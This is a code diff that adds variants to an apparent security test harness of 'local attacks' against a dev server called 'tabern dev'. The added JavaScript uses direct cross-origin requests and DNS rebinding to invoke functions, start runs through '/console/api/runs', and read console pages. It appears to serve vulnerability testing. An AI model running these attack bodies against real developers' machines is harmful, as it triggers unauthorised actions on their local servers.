@@ -38,6 +38,8 @@ const read = async (answer) => {
   if (!answer.ok) throw new Error('status ' + answer.status);
   return text;
 };
+const start = (url) => fetch(url, { method: 'POST', body: '{"functionName":"hit"}',
+  headers: { 'content-type': 'application/json' } }).then(read);
 const socket = (url) => new Promise((resolve, reject) => {
   const socket = new WebSocket(url);
   socket.onopen = () => resolve('open');
@@ -54,6 +56,7 @@ const attack = (from: LocalAttack['from'], name: string, body: string): LocalAtt
   body: `async (aim) => { ${SIMPLE} ${body} }`,
 });
 const INVOKE = `'/v1/functions/hit/invoke'`;
+const RUNS = `'/console/api/runs'`;
 
 export const localTools: readonly LocalAttack[] = [
   attack(
@@ -73,12 +76,17 @@ export const localTools: readonly LocalAttack[] = [
   attack(
     'site',
     'the same by JSON, and read the response',
-    `return each(aim.dev, (host) => json('http://' + host + ${INVOKE}));`,
+    `return all(Object.fromEntries(aim.dev.flatMap((host) => [
+       ['invoke ' + host, () => json('http://' + host + ${INVOKE})],
+       ['start ' + host, () => start('http://' + host + ${RUNS})],
+       ['runs ' + host, () => fetch('http://' + host + ${RUNS}).then(read)],
+     ])));`,
   ),
   attack(
     'dev',
     'the same by DNS rebinding to `tabern dev`',
-    `return all({ json: () => json(${INVOKE}), look: () => fetch('/').then(read) });`,
+    `return all({ json: () => json(${INVOKE}), look: () => fetch('/').then(read),
+       start: () => start(${RUNS}), page: () => fetch('/console').then(read) });`,
   ),
   attack(
     'site',
